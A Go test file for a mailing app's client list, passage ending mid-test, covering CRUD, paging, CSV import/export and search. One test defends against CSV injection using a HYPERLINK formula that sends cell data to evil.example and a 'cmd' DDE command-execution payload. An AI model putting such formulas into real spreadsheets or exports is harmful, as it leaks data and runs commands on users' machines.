package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"rassylka/app/model"
	"rassylka/app/store"
)

func TestClientsCRUD(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")

	resp, body := c.get(t, "/clients")
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.Contains(parseHTML(t, body).Find("[data-testid=empty]").Text(), "No clients yet") {
		t.Fatalf("no empty state:\n%s", body)
	}

	// Field errors, each keeping what was typed.
	for _, tc := range []struct{ field, email, name, comment string }{
		{"email", "", "Bob", "c"},
		{"email", "bob@", "Bob", "c"},
		{"email", strings.Repeat("b", 250) + "@example.com", "Bob", "c"},
		{"full_name", "bob@example.com", strings.Repeat("n", 201), "c"},
		{"comment", "bob@example.com", "Bob", strings.Repeat("c", 2001)},
	} {
		resp, body := c.post(t, "/clients", url.Values{"email": {tc.email}, "full_name": {tc.name}, "comment": {tc.comment}})
		wantStatus(t, resp, body, http.StatusUnprocessableEntity)
		if fieldError(t, body, tc.field) == "" {
			t.Errorf("no error beside %s for %+v", tc.field, tc)
		}
		if tc.field != "full_name" && inputValue(t, body, "full_name") != tc.name {
			t.Errorf("typed name lost")
		}
	}

	resp, body = c.post(t, "/clients", url.Values{"email": {" Bob@Example.COM "}, "full_name": {"Bob"}, "comment": {"met in Riga"}})
	wantStatus(t, resp, body, http.StatusSeeOther)
	loc := resp.Header.Get("Location")
	if !strings.HasPrefix(loc, "/clients/") {
		t.Fatalf("create redirects to %q, want the client's page", loc)
	}
	resp, body = c.get(t, loc)
	wantStatus(t, resp, body, http.StatusOK)
	if got := parseHTML(t, body).Find("[data-testid=client-show] h1").Text(); got != "bob@example.com" {
		t.Fatalf("show page email %q, want the normalized address", got)
	}

	// Duplicate in any letter case is a field error, not a 500.
	resp, body = c.post(t, "/clients", url.Values{"email": {"BOB@example.com"}})
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	if !strings.Contains(fieldError(t, body, "email"), "already in your list") {
		t.Fatalf("duplicate: %q", fieldError(t, body, "email"))
	}
	if got := inputValue(t, body, "email"); got != "BOB@example.com" {
		t.Errorf("the rejected form shows %q, not the address as typed", got)
	}
	// Another owner may have the same address.
	other := signedIn(t, e, "other@example.com", model.RoleUser)
	resp, body = other.post(t, "/clients", url.Values{"email": {"bob@example.com"}})
	wantStatus(t, resp, body, http.StatusSeeOther)

	// Edit: plain form, then htmx row.
	resp, body = c.get(t, loc+"/edit")
	wantStatus(t, resp, body, http.StatusOK)
	if inputValue(t, body, "email") != "bob@example.com" {
		t.Fatal("edit form not filled")
	}
	resp, body = c.post(t, loc, url.Values{"email": {"robert@example.com"}, "full_name": {"Robert"}, "comment": {""}})
	wantRedirect(t, resp, body, loc)
	resp, body = c.request(t, "GET", loc+"/edit", nil, true)
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.HasPrefix(strings.TrimSpace(body), "<tr") || !strings.Contains(body, "hx-post") {
		t.Fatalf("htmx edit is not the inline row:\n%s", body)
	}
	resp, body = c.request(t, "POST", loc, url.Values{"email": {"not-an-email"}, "full_name": {"Robert"}}, true)
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	if !strings.HasPrefix(strings.TrimSpace(body), "<tr") || fieldError(t, "<table>"+body+"</table>", "email") == "" ||
		!strings.Contains(body, `value="not-an-email"`) {
		t.Fatalf("inline edit error is not the row with the message and the typed value:\n%s", body)
	}
	if parseHTML(t, "<table>"+body+"</table>").Find(`input[name=email][aria-invalid="true"]`).Length() != 1 {
		t.Errorf("the inline email in error is not marked invalid:\n%s", body)
	}
	resp, body = c.request(t, "POST", loc, url.Values{"email": {"rob@example.com"}, "full_name": {"Rob"}}, true)
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.Contains(body, "rob@example.com") || !strings.Contains(body, `data-testid="client-row"`) {
		t.Fatalf("saved row not returned:\n%s", body)
	}

	// htmx create answers the fresh form, and the list reloads itself.
	resp, body = c.request(t, "POST", "/clients", url.Values{"email": {"carol@example.com"}, "full_name": {"Carol"}}, true)
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.Contains(body, "carol@example.com was added") || resp.Header.Get("HX-Trigger") != "list-changed" {
		t.Fatalf("htmx create answer (HX-Trigger %q):\n%s", resp.Header.Get("HX-Trigger"), body)
	}

	// Search over email, name and comment.
	if _, err := e.db.ExecContext(ctx, "UPDATE clients SET comment = 'VIP from Tallinn' WHERE email = 'carol@example.com'"); err != nil {
		t.Fatal(err)
	}
	for q, want := range map[string]string{"rob@": "rob@example.com", "CAROL": "carol@example.com", "tallinn": "carol@example.com", "100%": ""} {
		resp, body := c.request(t, "GET", "/clients?q="+url.QueryEscape(q), nil, true)
		wantStatus(t, resp, body, http.StatusOK)
		rows := parseHTML(t, body).Find("[data-testid=client-row]")
		if want == "" {
			if rows.Length() != 0 {
				t.Errorf("q=%q matched %d rows", q, rows.Length())
			}
			continue
		}
		if rows.Length() != 1 || !strings.Contains(rows.Text(), want) {
			t.Errorf("q=%q: %d rows %q, want %s", q, rows.Length(), rows.Text(), want)
		}
		if strings.Contains(body, "<html") {
			t.Error("htmx search returned the whole page")
		}
	}

	// Delete with htmx (the row goes) and with a plain form.
	cl, _ := e.store.UserByEmail(ctx, "ann@example.com")
	rows, _, _ := e.store.ListClients(ctx, store.Own(cl.ID), "", "carol", store.NewPage(1, 10))
	resp, body = c.request(t, "DELETE", "/clients/"+id(rows[0].ID), nil, true)
	wantStatus(t, resp, body, http.StatusOK)
	if strings.TrimSpace(body) != "" || resp.Header.Get("HX-Trigger") != `{"flash":"Client deleted.","list-changed":""}` {
		t.Errorf("htmx delete answered %q (HX-Trigger %q), want an empty row, the list reloaded and a word", body, resp.Header.Get("HX-Trigger"))
	}
	resp, body = c.post(t, loc+"/delete", nil)
	wantRedirect(t, resp, body, "/clients")
	if _, page, _ := e.store.ListClients(ctx, store.Own(ann.ID), "", "", store.NewPage(1, 10)); page.Total != 0 {
		t.Fatalf("%d clients left", page.Total)
	}
	resp, body = c.get(t, loc)
	wantStatus(t, resp, body, http.StatusNotFound)
}

func TestClientsPaging(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ann, _ := e.store.UserByEmail(context.Background(), "ann@example.com")
	var rows []store.ImportRow
	for i := 0; i < 120; i++ {
		rows = append(rows, store.ImportRow{Email: fmt.Sprintf("c%03d@example.com", i)})
	}
	if _, err := e.store.UpsertClients(context.Background(), ann.ID, rows); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	next := "/clients"
	for pages := 0; next != ""; pages++ {
		if pages > 3 {
			t.Fatal("more pages than expected")
		}
		resp, body := c.get(t, next)
		wantStatus(t, resp, body, http.StatusOK)
		doc := parseHTML(t, body)
		doc.Find("[data-testid=client-row] td:first-child a").Each(func(_ int, s *goquerySelection) { seen[s.Text()] = true })
		next, _ = doc.Find("[data-testid=next-page]").Attr("href")
	}
	if len(seen) != 120 {
		t.Fatalf("paging showed %d distinct clients, want 120", len(seen))
	}
	// A page past the end (a link kept from a longer list) shows the last.
	resp, body := c.get(t, "/clients?page=99")
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.Contains(body, "120 clients") {
		t.Errorf("a page past the end lost the count")
	}
	doc := parseHTML(t, body)
	if n := doc.Find("[data-testid=client-row]").Length(); n != 20 || doc.Find("[data-testid=next-page]").Length() != 0 || doc.Find("[data-testid=prev-page]").Length() != 1 {
		t.Errorf("page 99 of 3 shows %d clients, want the last page's 20:\n%s", n, body)
	}
	// The first page leads to the last, the last back to the first.
	if last, _ := c.page(t, "/clients").Find("[data-testid=last-page]").Attr("href"); last != "/clients?page=3" {
		t.Errorf("the first page's link to the last: %q", last)
	}
	if first, _ := c.page(t, "/clients?page=3").Find("[data-testid=first-page]").Attr("href"); first != "/clients" {
		t.Errorf("the last page's link to the first: %q", first)
	}
}

func multipartCSV(t testing.TB, c *client, content []byte) (*http.Response, string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	_ = w.WriteField("_csrf", c.csrf(t))
	fw, err := w.CreateFormFile("file", "clients.csv")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = fw.Write(content)
	_ = w.Close()
	req, _ := http.NewRequest(http.MethodPost, "/clients/import", &buf)
	req.Header.Set("Content-Type", w.FormDataContentType())
	return c.send(t, req)
}

// importedReport imports content as a file posted by the import form, which
// answers with a redirect to the import's page, and reads that page: for a
// small file, its report.
func importedReport(t testing.TB, c *client, content []byte) (*http.Response, string) {
	t.Helper()
	resp, body := multipartCSV(t, c, content)
	wantStatus(t, resp, body, http.StatusSeeOther)
	to := resp.Header.Get("Location")
	if !strings.HasPrefix(to, "/clients/import/") {
		t.Fatalf("the import answered a redirect to %q", to)
	}
	return c.get(t, to)
}

func TestClientsImportExport(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: "old@example.com", FullName: "Old Name"}); err != nil {
		t.Fatal(err)
	}

	// Semicolons, a BOM, columns in another order, good and bad rows.
	file := "\ufeffcomment;email;full_name\n" +
		"first;new1@example.com;New One\n" +
		"upd;OLD@example.com;Old Renamed\n" +
		"bad;not-an-email;X\n" +
		"\n" +
		"dup;new1@example.com;Again\n" +
		";new2@example.com;\n" +
		"long;new3@example.com;" + strings.Repeat("n", 201) + "\n" +
		"\"unterminated;new4@example.com;Y\n"
	resp, body := importedReport(t, c, []byte(file))
	wantStatus(t, resp, body, http.StatusOK)
	doc := parseHTML(t, body)
	got := func(id string) string { return doc.Find("[data-testid=" + id + "]").Text() }
	if got("import-created") != "2" || got("import-updated") != "1" || got("import-rejected") != "4" {
		t.Fatalf("report created %s updated %s rejected %s:\n%s", got("import-created"), got("import-updated"), got("import-rejected"), body)
	}
	rejected := doc.Find("[data-testid=rejected-row]")
	wantLines := map[string]string{"4": "not-an-email", "6": "new1@example.com", "8": "new3@example.com"}
	rejected.Each(func(_ int, s *goquerySelection) {
		line := s.Find("td").First().Text()
		if want, ok := wantLines[line]; ok && !strings.Contains(s.Text(), want) {
			t.Errorf("line %s rejected as %q, want %s", line, s.Text(), want)
		}
		delete(wantLines, line)
	})
	if len(wantLines) != 0 {
		t.Errorf("rows not reported: %v\n%s", wantLines, body)
	}
	u, _, err := e.store.ListClients(ctx, store.Own(ann.ID), "", "old@", store.NewPage(1, 5))
	if err != nil || len(u) != 1 || u[0].FullName != "Old Renamed" {
		t.Fatalf("existing client not updated: %+v %v", u, err)
	}

	// A file without an email column, and no file.
	resp, body = multipartCSV(t, c, []byte("name,comment\nx,y\n"))
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	if !strings.Contains(body, "email") {
		t.Errorf("bad header not explained:\n%s", body)
	}
	// Over 20 MB is refused with a message, and nothing is imported.
	big := bytes.Repeat([]byte("x"), 20<<20+1)
	resp, body = multipartCSV(t, c, append([]byte("email\n"), big...))
	wantStatus(t, resp, body, http.StatusRequestEntityTooLarge)
	if !strings.Contains(body, "20 MB") {
		t.Errorf("large file refusal not explained:\n%.300s", body)
	}
	// So is one over what the server reads of an upload at all, which is
	// refused before it is read.
	huge := bytes.Repeat([]byte("x"), 30<<20)
	resp, body = multipartCSV(t, c, append([]byte("email\n"), huge...))
	wantStatus(t, resp, body, http.StatusRequestEntityTooLarge)
	if d := parseHTML(t, body); !strings.Contains(d.Find("[data-testid=import-form]").Parent().Text(), "The file is about 30 MB; files up to 20 MB can be imported. Split it and import the parts.") ||
		d.Find(`form[action="/logout"]`).Length() != 1 {
		t.Errorf("a file over the upload's bound is refused otherwise than on the import's page, signed in:\n%.600s", d.Find("main").Text())
	}

	// Export streams every client of the owner only.
	other := signedIn(t, e, "other@example.com", model.RoleUser)
	other.post(t, "/clients", url.Values{"email": {"others@example.com"}})
	resp, body = c.get(t, "/clients/export.csv")
	wantStatus(t, resp, body, http.StatusOK)
	if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") || !strings.Contains(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("export headers %v", resp.Header)
	}
	// A byte order mark first, for spreadsheets to read it as UTF-8.
	if !strings.HasPrefix(body, "\ufeffemail,") {
		t.Errorf("export starts %q, want a byte order mark and the header", body[:min(len(body), 12)])
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 4 || recs[0][0] != "email" || strings.Contains(body, "others@example.com") {
		t.Fatalf("export:\n%s", body)
	}
	// What was exported imports back unchanged, and changes nothing (not
	// even the clients' time of change); one line edited is one update.
	lastChange := func() (at time.Time) {
		if err := e.db.NewRaw("SELECT max(updated_at) FROM clients").Scan(context.Background(), &at); err != nil {
			t.Fatal(err)
		}
		return at
	}
	changedBefore := lastChange()
	created, updated, _, body := importReport(t, c, body)
	if importCount(t, body, "unchanged") != "3" || updated != "0" || created != "0" {
		t.Fatalf("re-import of the export:\n%s", body)
	}
	if changedAfter := lastChange(); !changedAfter.Equal(changedBefore) {
		t.Errorf("re-importing the export changed clients (%v, then %v)", changedBefore, changedAfter)
	}
	recs[1][1] += " Jr" // a name
	var edited strings.Builder
	if err := csv.NewWriter(&edited).WriteAll(recs); err != nil {
		t.Fatal(err)
	}
	if _, updated, _, body := importReport(t, c, edited.String()); updated != "1" || importCount(t, body, "unchanged") != "2" {
		t.Fatalf("re-import with one name edited:\n%s", body)
	}
}

func TestClientsImportLarge(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	var b strings.Builder
	b.WriteString("email,full_name,comment\n")
	for i := 0; i < 50000; i++ {
		fmt.Fprintf(&b, "person%05d@example.com,Person %d,row %d\n", i, i, i)
	}
	resp, body := importedReport(t, c, []byte(b.String()))
	wantStatus(t, resp, body, http.StatusOK)
	if got := parseHTML(t, body).Find("[data-testid=import-created]").Text(); got != "50\u202f000" {
		t.Fatalf("created %s of 50000", got)
	}
	resp, body = c.get(t, "/clients/export.csv")
	wantStatus(t, resp, body, http.StatusOK)
	if n := strings.Count(body, "\n"); n != 50001 {
		t.Fatalf("export has %d lines, want 50001", n)
	}
}

// importReport posts a CSV and returns created, updated and rejected.
func importReport(t *testing.T, c *client, file string) (created, updated, rejected string, body string) {
	t.Helper()
	resp, body := importedReport(t, c, []byte(file))
	wantStatus(t, resp, body, http.StatusOK)
	return importCount(t, body, "created"), importCount(t, body, "updated"), importCount(t, body, "rejected"), body
}

// importCount is one count of an import's report: created, updated,
// unchanged or rejected.
func importCount(t *testing.T, body, what string) string {
	t.Helper()
	return parseHTML(t, body).Find("[data-testid=import-" + what + "]").Text()
}

// A cell a spreadsheet would run as a formula (= + - @) must not leave the
// export as one (CSV injection), and the export must still import back to
// the same names.
func TestClientsExportNeutralizesFormulas(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	names := map[string]string{
		"f1@example.com": `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"f2@example.com": "+1+cmd|' /C calc'!A0",
		"f3@example.com": "-2+3",
		"f4@example.com": "@SUM(1+1)",
		"f5@example.com": "Plain, with \"quotes\"",
		// Values that start with an apostrophe themselves (typed so, or a
		// spreadsheet's text prefix kept): the import takes away only the
		// apostrophe the export added.
		"a1@example.com": "'=literally",
		"a2@example.com": "'-- see below",
		"a3@example.com": "''+quoted",
		"a4@example.com": "'Tis plain",
	}
	for email, name := range names {
		if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: email, FullName: name, Comment: name}); err != nil {
			t.Fatal(err)
		}
	}
	resp, body := c.get(t, "/clients/export.csv")
	wantStatus(t, resp, body, http.StatusOK)
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("export cell %q starts a formula", cell)
			}
		}
	}
	// Round trip: the export imports back unchanged, with the same names.
	created, updated, rejected, rbody := importReport(t, c, body)
	unchanged := importCount(t, rbody, "unchanged")
	if created != "0" || updated != "0" || unchanged != strconv.Itoa(len(names)) || rejected != "0" {
		t.Fatalf("re-import: created %s updated %s rejected %s\n%s", created, updated, rejected, rbody)
	}
	rows, _, err := e.store.ListClients(ctx, store.Own(ann.ID), "", "", store.NewPage(1, 10))
	if err != nil || len(rows) != len(names) {
		t.Fatalf("clients after the round trip: %d, %v; want %d", len(rows), err, len(names))
	}
	for _, r := range rows {
		if r.FullName != names[r.Email] || r.Comment != names[r.Email] {
			t.Errorf("%s after round trip: name %q comment %q, want %q", r.Email, r.FullName, r.Comment, names[r.Email])
		}
	}
}

// A file that lacks a column (only emails, or no comment column) must not
// blank that field of the clients already in the list.
func TestClientsImportKeepsColumnsTheFileLacks(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: "old@example.com", FullName: "Old Name", Comment: "met in Riga"}); err != nil {
		t.Fatal(err)
	}
	one := func() store.ClientRow {
		rows, _, err := e.store.ListClients(ctx, store.Own(ann.ID), "", "old@", store.NewPage(1, 5))
		if err != nil || len(rows) != 1 {
			t.Fatalf("%v %v", rows, err)
		}
		return rows[0]
	}

	if _, updated, _, body := importReport(t, c, "email,full_name\nOLD@example.com,New Name\n"); updated != "1" {
		t.Fatalf("not updated:\n%s", body)
	}
	if r := one(); r.FullName != "New Name" || r.Comment != "met in Riga" {
		t.Errorf("file without a comment column: name %q comment %q, want New Name / met in Riga", r.FullName, r.Comment)
	}
	if created, updated, rejected, body := importReport(t, c, "email\nold@example.com\nfresh@example.com\n"); created != "1" || updated != "0" || rejected != "0" ||
		importCount(t, body, "unchanged") != "1" {
		t.Fatalf("file with only emails: created %s updated %s rejected %s\n%s", created, updated, rejected, body)
	}
	if r := one(); r.FullName != "New Name" || r.Comment != "met in Riga" {
		t.Errorf("file with only emails: name %q comment %q, want them kept", r.FullName, r.Comment)
	}
	// A cell left empty keeps what is stored too (a file with mostly
	// empty name columns wiped every name typed), and a row with its last
	// cells missing.
	if _, updated, _, body := importReport(t, c, "email,full_name,comment\nold@example.com,,\nfresh@example.com\n"); updated != "0" || importCount(t, body, "unchanged") != "2" {
		t.Fatalf("file with empty cells: updated %s\n%s", updated, body)
	}
	if r := one(); r.FullName != "New Name" || r.Comment != "met in Riga" {
		t.Errorf("file with empty cells: name %q comment %q, want them kept", r.FullName, r.Comment)
	}
	if _, updated, _, body := importReport(t, c, "email,full_name,comment\nold@example.com,,met in Tartu\n"); updated != "1" {
		t.Fatalf("file with a comment: updated %s\n%s", updated, body)
	}
	if r := one(); r.FullName != "New Name" || r.Comment != "met in Tartu" {
		t.Errorf("file with an empty name and a comment: name %q comment %q, want New Name / met in Tartu", r.FullName, r.Comment)
	}
}

// A file exported by another tool names its columns its own way: a name
// in two columns is joined, notes are the comment, and the columns that
// are none of a client's are named in the report instead of dropped
// without a word.
func TestClientsImportOtherToolsColumns(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	created, _, rejected, body := importReport(t, c, "Email Address,First Name,Last Name,Notes,Tags\nlee@example.com,Ann,Lee,met in Riga,vip\nsolo@example.com,,Solo,,\n")
	if created != "2" || rejected != "0" {
		t.Fatalf("created %s rejected %s:\n%s", created, rejected, body)
	}
	rows, _, err := e.store.ListClients(ctx, store.Own(ann.ID), "", "", store.NewPage(1, 5))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rows {
		got[r.Email] = r.FullName + " / " + r.Comment
	}
	if got["lee@example.com"] != "Ann Lee / met in Riga" || got["solo@example.com"] != "Solo / " {
		t.Errorf("imported %v", got)
	}
	if ignored := parseHTML(t, body).Find("[data-testid=import-ignored]").Text(); !strings.Contains(ignored, "Tags") || strings.Contains(ignored, "Notes") {
		t.Errorf("the report on the columns not imported: %q", ignored)
	}
}

// Google Sheets and Excel write an empty row of a sheet as ",,": a blank
// line, not a rejected row.
func TestClientsImportSkipsEmptySpreadsheetRows(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	file := "email,full_name,comment\r\na@example.com,A,\r\n,,\r\n , ,\r\nb@example.com,B,\r\n,,\r\n"
	created, _, rejected, body := importReport(t, c, file)
	if created != "2" || rejected != "0" {
		t.Fatalf("created %s rejected %s, want 2 and 0 (empty rows are blank lines):\n%s", created, rejected, body)
	}
	file = "email;full_name;comment\na@example.com;A;\n;;\n"
	if _, _, rejected, body := importReport(t, c, file); rejected != "0" || parseHTML(t, body).Find("[data-testid=import-empty]").Length() != 0 {
		t.Fatalf("semicolon file: rejected %s:\n%s", rejected, body)
	}
	// A file of empty rows, or its header alone, says it has none.
	for _, file := range []string{"email,full_name,comment\r\n,,\r\n", "email\n"} {
		if _, _, _, body := importReport(t, c, file); parseHTML(t, body).Find("[data-testid=import-empty]").Length() != 1 {
			t.Errorf("%q: the report does not say the file has no rows", file)
		}
	}
}

// A file with classic Mac line ends (CR only, as Excel for Mac's "CSV
// (Macintosh)" writes) is read line by line: it reported "0 created, 0
// updated, 0 rejected", its rows taken for more header columns.
func TestClientsImportCarriageReturnLines(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	file := "email,name\rcr1@example.com,CR One\r\"cr2@example.com\",\"Two, CR\"\r"
	created, _, rejected, body := importReport(t, c, file)
	if created != "2" || rejected != "0" {
		t.Fatalf("created %s rejected %s, want 2 and 0:\n%s", created, rejected, body)
	}
}

// A first line that is not valid CSV (a stray quote) is refused like any
// other file without a header, not answered with "Something went wrong".
func TestClientsImportMalformedHeader(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	resp, body := multipartCSV(t, c, []byte("email,na\"me\na@example.com,A\n"))
	wantStatus(t, resp, body, http.StatusUnprocessableEntity)
	if msg := parseHTML(t, body).Find("[data-testid=form-error]").Text(); !strings.Contains(msg, "first line") {
		t.Fatalf("message %q, want one about the first line", msg)
	}
}

// A file that is no CSV text is told for what it is, with what to do:
// every one of them was "the first line must name the columns".
func TestClientsImportSaysWhatAFileIs(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	utf16 := []byte{0xFF, 0xFE}
	for _, r := range "email\na@example.com\n" {
		utf16 = append(utf16, byte(r), 0)
	}
	latin1 := []byte("email,full_name\nb@example.com,Ren\xe9e\n")
	// A UTF-8 file whose first 4 KB (what is looked at) end inside a letter.
	var long []byte
	for pad := 0; len(long) < 4096 || long[4095] < 0xC0; pad++ {
		long = []byte("email,full_name" + strings.Repeat(" ", pad) + "\n" + strings.Repeat("c@example.com,Анна\n", 200))
	}
	for name, tc := range map[string]struct {
		file []byte
		want string
	}{
		"empty":   {[]byte(" \n"), "The file is empty."},
		"xlsx":    {[]byte("PK\x03\x04\x14\x00\x06\x00 rest of a zip"), "spreadsheet's own file"},
		"xls":     {[]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, "spreadsheet's own file"},
		"UTF-16":  {utf16, "UTF-16 text"},
		"binary":  {[]byte("\x7fELF\x00\x01\x02"), "not a text file"},
		"Latin-1": {latin1, "not UTF-8 text"},
	} {
		resp, body := multipartCSV(t, c, tc.file)
		wantStatus(t, resp, body, http.StatusUnprocessableEntity)
		if msg := parseHTML(t, body).Find("[data-testid=form-error]").Text(); !strings.Contains(msg, tc.want) || (name != "empty" && !strings.Contains(msg, "“CSV UTF-8”")) {
			t.Errorf("%s: message %q, want %q and what to do", name, msg, tc.want)
		}
	}
	if resp, body := importedReport(t, c, long); resp.StatusCode != http.StatusOK || parseHTML(t, body).Find("[data-testid=import-created]").Text() != "1" {
		t.Errorf("a UTF-8 file whose first 4 KB end inside a letter: %d\n%.600s", resp.StatusCode, body)
	}
}

// Common spellings of the email column header (Excel, Outlook, Google
// Forms) are understood like the name column's.
func TestClientsImportEmailHeaderVariants(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	for i, h := range []string{"E-mail", "E-mail Address", "Email Address"} {
		file := h + ",Name\nperson" + string(rune('a'+i)) + "@example.com,P\n"
		resp, body := importedReport(t, c, []byte(file))
		if resp.StatusCode != http.StatusOK || parseHTML(t, body).Find("[data-testid=import-created]").Text() != "1" {
			t.Errorf("header %q: status %d\n%.400s", h, resp.StatusCode, body)
		}
	}
}

// Search takes LIKE's and SQL's special characters literally.
func TestClientsSearchSpecialCharacters(t *testing.T) {
	e := newEnv(t)
	c := signedIn(t, e, "ann@example.com", model.RoleUser)
	ctx := context.Background()
	ann, _ := e.store.UserByEmail(ctx, "ann@example.com")
	for _, cl := range []model.Client{
		{Email: "under_score@example.com", FullName: "O'Brien"},
		{Email: "underxscore@example.com", FullName: `Back\slash "Q"`},
		{Email: "anna@example.com", FullName: "Анна Петрова"},
	} {
		cl.OwnerID = ann.ID
		if err := e.store.CreateClient(ctx, &cl); err != nil {
			t.Fatal(err)
		}
	}
	for q, want := range map[string]int{"under_": 1, "_": 1, `\`: 1, `\s`: 1, "o'b": 1, `"q"`: 1, "%": 0, "АННА": 1, "петр": 1, "'": 1} {
		resp, body := c.request(t, "GET", "/clients?q="+url.QueryEscape(q), nil, true)
		wantStatus(t, resp, body, http.StatusOK)
		if n := parseHTML(t, body).Find("[data-testid=client-row]").Length(); n != want {
			t.Errorf("q=%q: %d rows, want %d", q, n, want)
		}
	}
	// A long search in Cyrillic, 6 bytes a letter in the address (8 KB),
	// is answered, not refused for the size of the request's head.
	long := url.QueryEscape(strings.Repeat("Петрова", 200))
	resp, body := c.get(t, "/clients?q="+long)
	wantStatus(t, resp, body, http.StatusOK)
}

// A hard bounce is about an address: when the owner corrects the address,
// the new one is mailable; editing only the name keeps the mark.
func TestClientsEmailChangeClearsBounce(t *testing.T) {
	e, c, _, o := signedInWithObjects(t)
	ctx := context.Background()
	if _, err := e.db.ExecContext(ctx, "UPDATE clients SET bounced_at = now() WHERE id = ?", o.client.ID); err != nil {
		t.Fatal(err)
	}
	bounced := func() bool {
		var b bool
		if err := e.db.QueryRowContext(ctx, "SELECT bounced_at IS NOT NULL FROM clients WHERE id = ?", o.client.ID).Scan(&b); err != nil {
			t.Fatal(err)
		}
		return b
	}
	loc := "/clients/" + id(o.client.ID)
	resp, body := c.post(t, loc, url.Values{"email": {o.client.Email}, "full_name": {"Renamed"}})
	wantRedirect(t, resp, body, loc)
	if !bounced() {
		t.Fatal("editing the name cleared the bounce")
	}
	resp, body = c.post(t, loc, url.Values{"email": {"fixed-typo@example.com"}, "full_name": {"Renamed"}})
	wantRedirect(t, resp, body, loc)
	if bounced() {
		t.Error("the corrected address is still marked as bounced, so mailings skip it")
	}
}

// The export carries unsubscribed_at; importing it back (a restore after a
// delete, a move to another account) must keep those people unsubscribed,
// not mail them again. An import never clears the mark.
func TestClientsImportKeepsUnsubscribes(t *testing.T) {
	e, c, ann, o := signedInWithObjects(t)
	ctx := context.Background()
	if err := e.store.Unsubscribe(ctx, ann.ID, o.client.Email); err != nil {
		t.Fatal(err)
	}
	resp, export := c.get(t, "/clients/export.csv")
	wantStatus(t, resp, export, http.StatusOK)
	if err := e.store.DeleteClient(ctx, ann.ID, o.client.ID); err != nil {
		t.Fatal(err)
	}
	if created, _, rejected, body := importReport(t, c, export); created != "1" || rejected != "0" {
		t.Fatalf("restore: created %s rejected %s\n%s", created, rejected, body)
	}
	rows, _, _ := e.store.ListClients(ctx, store.Own(ann.ID), "", o.client.Email, store.NewPage(1, 5))
	if len(rows) != 1 || rows[0].UnsubscribedAt == nil {
		t.Fatalf("restored client %+v is mailable again, want it unsubscribed", rows)
	}
	// A file without the column, or with it empty, leaves the mark alone.
	if _, updated, rejected, body := importReport(t, c, "email,unsubscribed_at\n"+o.client.Email+",\n"); updated != "0" || rejected != "0" ||
		importCount(t, body, "unchanged") != "1" {
		t.Fatalf("file with the column empty: updated %s rejected %s\n%s", updated, rejected, body)
	}
	rows, _, err := e.store.ListClients(ctx, store.Own(ann.ID), "", o.client.Email, store.NewPage(1, 5))
	if err != nil || len(rows) != 1 {
		t.Fatalf("%v %v", rows, err)
	}
	if rows[0].UnsubscribedAt == nil {
		t.Fatal("an import cleared an unsubscribe")
	}
	// A client listed already whom the file marks unsubscribed is counted
	// so in the report, as a new one is.
	if err := e.store.CreateClient(ctx, &model.Client{OwnerID: ann.ID, Email: "listed@example.com"}); err != nil {
		t.Fatal(err)
	}
	// (The client unsubscribed already, renamed, is updated, not counted
	// as marked.)
	_, updated, _, body := importReport(t, c, "email,full_name,unsubscribed_at\nlisted@example.com,,2024-05-01\n"+o.client.Email+",Renamed,2024-05-02\n")
	if got := strings.Join(strings.Fields(parseHTML(t, body).Find("[data-testid=import-status]").Text()), " "); updated != "2" || !strings.Contains(got, "2 updated (1 of them now unsubscribed)") {
